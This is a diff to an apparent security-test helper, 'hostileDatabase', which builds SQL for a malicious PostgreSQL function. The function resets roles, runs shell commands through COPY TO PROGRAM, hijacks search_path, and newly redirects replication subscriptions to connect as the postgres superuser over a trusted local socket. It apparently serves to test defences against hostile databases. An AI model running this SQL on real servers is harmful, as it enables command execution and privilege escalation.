@@ -29,6 +29,7 @@ export function hostileDatabase(victim: Postgres): readonly string[] {
   return [
     'CREATE SCHEMA evil',
     `CREATE FUNCTION evil.act(place text) RETURNS boolean LANGUAGE plpgsql AS $body$
+     DECLARE name text;
      BEGIN
        IF pg_catalog.current_setting('port') <> '${victim.port}' THEN RETURN true; END IF;
        BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
@@ -39,6 +40,13 @@ export function hostileDatabase(victim: Postgres): readonly string[] {
        BEGIN EXECUTE $$COPY (SELECT 'x') TO PROGRAM 'cat > ${file}'$$; EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog', pg_catalog.current_database());
        EXCEPTION WHEN OTHERS THEN NULL; END;
+       -- The server would connect to itself as the user of the operating system, which its socket trusts.
+       FOR name IN SELECT subname FROM pg_catalog.pg_subscription LOOP
+         BEGIN
+           EXECUTE pg_catalog.format('ALTER SUBSCRIPTION %I CONNECTION %L', name,
+             'host=${victim.folder} port=${victim.port} user=postgres dbname=shop application_name=evil');
+         EXCEPTION WHEN OTHERS THEN NULL; END;
+       END LOOP;
        RETURN true;
      END $body$`,
     // A function that is not volatile may execute nothing itself, but call one that does.
